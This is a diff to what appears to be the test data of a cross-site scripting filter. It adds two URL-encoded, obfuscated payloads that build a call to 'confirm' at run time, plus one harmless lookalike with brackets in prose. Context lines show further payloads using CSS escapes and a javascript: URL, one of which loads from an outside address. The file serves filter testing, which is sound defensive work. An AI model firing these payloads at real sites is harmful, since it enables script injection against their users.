@@ -452,6 +452,9 @@ XSS_MARKUP = [
     # string pieces joined into a name (`'con'+'firm'`) and into a script URL
     b"q=self%5B%27con%27%2B%27firm%27%5D%281%29",
     b"q=x%3D%5B%27javas%27%2B%27cript%3Aprom%27%2B%27pt%282%29%27%5D",
+    # a global object's member named by an expression at run time, and called
+    b"q=self%5Batob%28%27Y29uZmlybQ%3D%3D%27%29%5D%281%29",
+    b"q=x%27%3Btop%5B%2Fcon%2F.source%2B%2Ffirm%2F.source%5D%282%29%2F%2F",
     # CSS escapes a browser decodes before it reads the property
     b"q=%3Cp+style%3D%22-%5Cmoz-bi%5Cnding%3Aurl%28%2F%2F198.18.0.9%2Fb.xml%23x%29%22%3E",
     b"q=%3Cp+style%3D%22background%3A%5C75rl%28%27javas%5C63ript%3Ax%28%29%27%29%22%3E",
@@ -473,6 +476,7 @@ XSS_LOOKALIKES = [
     b"q=level%3Dalert%2C+then+level+%282%29",  # an alias needs a call written as code
     b"q=see+%27part+1%27%2B%27part+2%27",  # joined strings that make no sink
     b"q=C%3A%5CUsers%5Cstyle%5Curl+notes",  # backslashes outside CSS
+    b"q=the+top+%5B3%5D+%28best%29+picks%2C+parent%5B%27s%27%5D+%28see+note%29",  # brackets in prose
 ]
 
 
